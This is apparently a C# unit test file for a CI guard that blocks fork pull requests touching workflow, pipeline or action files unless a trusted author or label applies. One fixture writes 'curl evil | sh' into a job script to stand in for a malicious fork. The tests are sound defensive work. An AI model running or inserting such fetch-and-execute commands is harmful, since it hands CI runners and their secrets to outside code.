using Shipgate.Core;
using Shipgate.Workflows.PullRequests;
using Shipgate.Workflows.Tests.Support;

namespace Shipgate.Workflows.Tests.PullRequests;

public sealed class PrGuardTests : IDisposable
{
    private readonly GitSandbox sandbox = new();

    public void Dispose() => sandbox.Dispose();

    private string Repo => Path.Combine(sandbox.Root, "repo");

    // A repository whose main branch has a workflow, a GitLab pipeline with a local include, and some code.
    private string CreateBase()
    {
        Directory.CreateDirectory(Repo);
        GitSandbox.Git(Repo, "init", "-q", "-b", "main");
        sandbox.Write("repo/.github/workflows/ci.yml", "on: push\njobs: {}\n");
        sandbox.Write("repo/.gitlab-ci.yml", "include:\n  - local: /ci/jobs.yml\n  - local: ci/more/*.yml\n");
        sandbox.Write("repo/ci/jobs.yml", "test:\n  script: make\n");
        sandbox.Write("repo/src/app.c", "int main(void) { return 0; }\n");
        GitSandbox.Git(Repo, "add", ".");
        GitSandbox.Git(Repo, "commit", "-q", "-m", "base");
        return GitSandbox.Git(Repo, "rev-parse", "HEAD").Trim();
    }

    // A branch "pr" off main with the given files written (null content deletes the file).
    private string CreateHead(params (string Path, string? Content)[] files)
    {
        GitSandbox.Git(Repo, "checkout", "-q", "-b", "pr");
        foreach (var (path, content) in files)
        {
            if (content is null)
            {
                GitSandbox.Git(Repo, "rm", "-q", path);
            }
            else
            {
                sandbox.Write("repo/" + path, content);
            }
        }

        GitSandbox.Git(Repo, "add", "-A");
        GitSandbox.Git(Repo, "commit", "-q", "-m", "change");
        var head = GitSandbox.Git(Repo, "rev-parse", "HEAD").Trim();
        GitSandbox.Git(Repo, "checkout", "-q", "main");
        return head;
    }

    private static PullRequestEvent ForkEvent(string baseSha, string headSha, string? author = "mallory", params string[] labels) =>
        new(7, "owner/project", "mallory/project", true, baseSha, headSha, author, labels);

    [Fact]
    public async Task Fork_changing_ci_files_is_blocked_and_lists_only_them()
    {
        var baseSha = CreateBase();
        var head = CreateHead(
            (".github/workflows/ci.yml", "on: pull_request_target\njobs: {}\n"),
            ("ci/jobs.yml", "test:\n  script: curl evil | sh\n"),
            ("ci/more/deploy.yml", "deploy:\n  script: x\n"),
            ("tools/lint/action.yaml", "runs:\n  using: composite\n  steps: []\n"),
            (".github/dependabot.yml", "version: 2\n"),
            ("src/app.c", "int main(void) { return 1; }\n"),
            ("docs/ci.yml", "not ci\n"));

        var result = await PrGuard.EvaluateAsync(Repo, ForkEvent(baseSha, head), new PrGuardOptions(), CancellationToken.None);

        result.Verdict.ShouldBe(PrGuardVerdict.Blocked);
        result.ChangedCiFiles.ShouldBe([".github/dependabot.yml", ".github/workflows/ci.yml", "ci/jobs.yml", "ci/more/deploy.yml", "tools/lint/action.yaml"]);
    }

    [Fact]
    public async Task Moving_a_workflow_out_of_the_folder_counts_as_a_change()
    {
        var baseSha = CreateBase();
        var head = CreateHead((".github/workflows/ci.yml", null), ("old/ci.yml", "on: push\njobs: {}\n"));
        var result = await PrGuard.EvaluateAsync(Repo, ForkEvent(baseSha, head), new PrGuardOptions(), CancellationToken.None);
        result.ChangedCiFiles.ShouldBe([".github/workflows/ci.yml"]);
    }

    [Fact]
    public async Task Fork_changing_only_code_passes_unless_an_extra_glob_says_otherwise()
    {
        var baseSha = CreateBase();
        var head = CreateHead(("src/app.c", "int main(void) { return 2; }\n"));

        (await PrGuard.EvaluateAsync(Repo, ForkEvent(baseSha, head), new PrGuardOptions(), CancellationToken.None)).Verdict.ShouldBe(PrGuardVerdict.NoCiChanges);
        var strict = await PrGuard.EvaluateAsync(Repo, ForkEvent(baseSha, head), new PrGuardOptions { ExtraGlobs = ["src/**"] }, CancellationToken.None);
        strict.Verdict.ShouldBe(PrGuardVerdict.Blocked);
        strict.ChangedCiFiles.ShouldBe(["src/app.c"]);
    }

    [Fact]
    public async Task Trusted_authors_and_labels_pass_and_same_repository_branches_need_no_git()
    {
        var baseSha = CreateBase();
        var head = CreateHead((".github/workflows/ci.yml", "on: push\njobs: {}\n# x\n"));

        var byAuthor = await PrGuard.EvaluateAsync(Repo, ForkEvent(baseSha, head), new PrGuardOptions { TrustedAuthors = ["MALLORY"] }, CancellationToken.None);
        byAuthor.Verdict.ShouldBe(PrGuardVerdict.Trusted);
        byAuthor.TrustedBy.ShouldBe("author mallory");
        var byLabel = await PrGuard.EvaluateAsync(Repo, ForkEvent(baseSha, head, "mallory", "ci-reviewed"), new PrGuardOptions { TrustedLabels = ["ci-reviewed"] }, CancellationToken.None);
        byLabel.Verdict.ShouldBe(PrGuardVerdict.Trusted);

        var sameRepo = new PullRequestEvent(1, "owner/project", "Owner/Project", false, new string('a', 40), new string('b', 40), "dev", []);
        (await PrGuard.EvaluateAsync("/nonexistent", sameRepo, new PrGuardOptions(), CancellationToken.None)).Verdict.ShouldBe(PrGuardVerdict.NotFromFork);
    }

    [Fact]
    public async Task Missing_commits_ask_for_a_full_fetch()
    {
        var baseSha = CreateBase();
        var ex = await Should.ThrowAsync<InputFormatException>(() =>
            PrGuard.EvaluateAsync(Repo, ForkEvent(baseSha, new string('e', 40)), new PrGuardOptions(), CancellationToken.None));
        ex.Message.ShouldContain($"the head commit {new string('e', 40)} is not in this checkout");
        ex.Message.ShouldContain("fetch-depth: 0");
    }

    [Fact]
    public void Event_payloads_are_parsed_and_validated()
    {
        var sha1 = new string('1', 40);
        var sha2 = new string('2', 40);
        var json = "{\"action\":\"opened\",\"number\":5,\"pull_request\":{\"number\":5,\"user\":{\"login\":\"eve\"},\"labels\":[{\"name\":\"a\"},{\"name\":\"b\"}],\n"
            + "  \"base\":{\"sha\":\"" + sha1 + "\",\"repo\":{\"full_name\":\"org/app\",\"fork\":false}},\n"
            + "  \"head\":{\"sha\":\"" + sha2 + "\",\"repo\":{\"full_name\":\"eve/app\",\"fork\":true}}}}";
        var parsed = PullRequestEvent.Parse(json);
        parsed.ShouldBe(parsed with { Number = 5, BaseRepository = "org/app", HeadRepository = "eve/app", HeadIsFork = true, BaseSha = sha1, HeadSha = sha2, Author = "eve" });
        parsed.Labels.ShouldBe(["a", "b"]);
        parsed.IsFromFork.ShouldBeTrue();

        var deleted = PullRequestEvent.Parse(json.Replace("{\"full_name\":\"eve/app\",\"fork\":true}", "null", StringComparison.Ordinal));
        deleted.HeadRepository.ShouldBeNull();
        deleted.IsFromFork.ShouldBeTrue();

        Should.Throw<InputFormatException>(() => PullRequestEvent.Parse("{\"push\": {}}")).Message.ShouldContain("not a pull_request");
        var bad = Should.Throw<InputFormatException>(() => PullRequestEvent.Parse("{\n  \"pull_request\": {,\n}"));
        bad.Line.ShouldBe(2);
    }
}
